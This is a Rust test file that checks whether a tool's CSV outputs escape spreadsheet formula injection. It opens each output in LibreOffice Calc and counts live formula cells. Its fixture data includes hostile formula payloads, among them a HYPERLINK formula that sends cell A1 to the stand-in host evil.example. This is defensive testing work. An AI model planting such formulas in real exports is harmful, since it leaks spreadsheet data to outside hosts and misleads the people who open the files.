//! Spreadsheet formula injection (issue 14, 31), tried with the real spreadsheet engine
//! (Debian's LibreOffice Calc, installed by `.ci/run`): profiles whose names and values start
//! like formulas go through a run and a campaign; every CSV a person may open (the
//! shortlist, the rejects, the triads, the campaign) is converted to xlsx by `soffice
//! --headless` and its formula cells counted: none. A file written without the escaping
//! (the control) does give formula cells, so the count can fail.

mod util;

use std::path::{Path, PathBuf};
use std::process::Command;

use util::{code, stderr, Dir};

fn soffice() -> PathBuf {
    ["/usr/bin/soffice", "/usr/bin/libreoffice"].iter().map(PathBuf::from).find(|p| p.exists()).expect("LibreOffice Calc is needed for this test: apt-get install libreoffice-calc-nogui unzip (.ci/run does)")
}

/// Formula cells of the first sheet of `csv` opened in LibreOffice Calc.
fn formula_cells(dir: &Dir, csv: &Path) -> usize {
    let converted = dir.path("xlsx");
    let output = Command::new(soffice())
        .arg(format!("-env:UserInstallation=file://{}", dir.path("lo-profile").display()))
        .args(["--headless", "--convert-to", "xlsx", "--outdir"])
        .arg(&converted)
        .arg(csv)
        .output()
        .expect("soffice runs");
    assert!(output.status.success(), "soffice failed: {}", String::from_utf8_lossy(&output.stderr));
    let book = converted.join(csv.file_stem().unwrap()).with_extension("xlsx");
    let sheet = Command::new("unzip").arg("-p").arg(&book).arg("xl/worksheets/sheet1.xml").output().expect("unzip runs");
    assert!(sheet.status.success(), "{} is a workbook", book.display());
    let xml = String::from_utf8_lossy(&sheet.stdout);
    xml.matches("<f>").count() + xml.matches("<f ").count()
}

#[test]
fn no_csv_of_a_run_or_a_campaign_holds_a_live_formula() {
    let dir = Dir::new();
    let header = "id,name,actor_type,country_iso3,offers,needs,roles";
    let rows = [
        "a,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1;\"\"click\"\")\",local_authority,SEN,informal_economy,urban_development,provider;beneficiary",
        "b,+1 555 cooperative,sse_unit,SEN,urban_development,informal_economy,provider;beneficiary",
        "c,-Minus union,workers_organisation,SEN,informal_economy,urban_development,provider;beneficiary",
        "d,@SUM(A1:A9),sse_unit,SEN,urban_development,informal_economy,provider;beneficiary",
        "e,Tab\tcoop,sse_unit,GHA,urban_development,informal_economy,provider;beneficiary",
        "f,Northern fund,donor,FRA,informal_economy,,funder",
        "g,Bad country,sse_unit,=1+2,urban_development,informal_economy,",
    ];
    dir.write("hostile.csv", &format!("{header}\n{}\n", rows.join("\n")));
    let run = dir.run(&["run", "--profiles", "hostile.csv", "--out", "out", "-q"]);
    assert_eq!(code(&run), 1, "{}", stderr(&run));
    let campaign = dir.run(&["campaign", "--run", "out", "--out", "camp"]);
    assert_eq!(code(&campaign), 0, "{}", stderr(&campaign));
    for file in ["out/shortlist.csv", "out/rejects.csv", "out/triads.csv", "camp/campaign.csv"] {
        assert!(std::fs::read_to_string(dir.path(file)).unwrap().lines().count() > 1, "{file} has rows");
        assert_eq!(formula_cells(&dir, &dir.path(file)), 0, "{file}");
    }
    // The control: the shortlist with its escaping undone does hold formulas.
    let shortlist = std::fs::read_to_string(dir.path("out/shortlist.csv")).unwrap();
    dir.write("control.csv", &shortlist.replace(",'", ",").replace("\"'", "\""));
    assert!(formula_cells(&dir, &dir.path("control.csv")) > 0);
}
